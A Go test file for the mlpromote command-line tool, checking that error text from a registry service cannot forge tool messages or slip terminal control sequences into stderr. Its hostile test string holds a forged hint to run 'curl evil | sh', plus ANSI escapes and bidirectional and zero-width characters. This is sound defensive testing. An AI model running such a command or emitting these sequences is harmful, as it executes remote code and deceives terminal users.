package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/cmd/internal/ui"
	"mlpromote.dev/mlpromote/cmd/mlpromote/internal/program"
	"mlpromote.dev/mlpromote/registry"
)

// hostile is what somebody writes who wants to be taken for this program.
const hostile = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"

// checkTame checks that what was printed has no line that others wrote, and nothing that a
// terminal obeys.
func checkTame(t *testing.T, printed string) {
	t.Helper()
	if !strings.Contains(printed, "done") {
		t.Errorf("the text from elsewhere was not printed: %q", printed)
	}
	for line := range strings.Lines(printed) {
		if strings.HasPrefix(line, "mlpromote: hint: run") {
			t.Errorf("the forged line stands for itself: %q", printed)
		}
		if err := registry.ValidateText("line", strings.TrimSuffix(line, "\n")); err != nil {
			t.Errorf("%v: %q", err, line)
		}
	}
}

// A service, or what stands in its place, gets no line of its own on the terminal.
func TestErrorsOfAService(t *testing.T) {
	t.Parallel()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(http.StatusConflict)
		text := strings.ToValidUTF8(hostile, "")
		_ = json.NewEncoder(w).Encode(map[string]any{
			"type": "https://mlpromote.dev/problems/policy", "title": text, "status": 409, "code": "policy", "detail": text,
			"errors": []any{map[string]any{"code": "policy", "detail": text, "hints": []string{text}}},
		})
	}))
	t.Cleanup(server.Close)
	var stdout, stderr bytes.Buffer
	u := ui.NewPlain("mlpromote", &stdout, &stderr)
	a := &program.App{UI: u, Getenv: func(string) string { return "" }, Stdin: strings.NewReader("")}
	if exit := runCommand(t.Context(), a, []string{"list", "--registry", server.URL, "--data", t.TempDir()}); exit == 0 {
		t.Errorf("exit 0, stdout %q", &stdout)
	}
	checkTame(t, stderr.String())
}
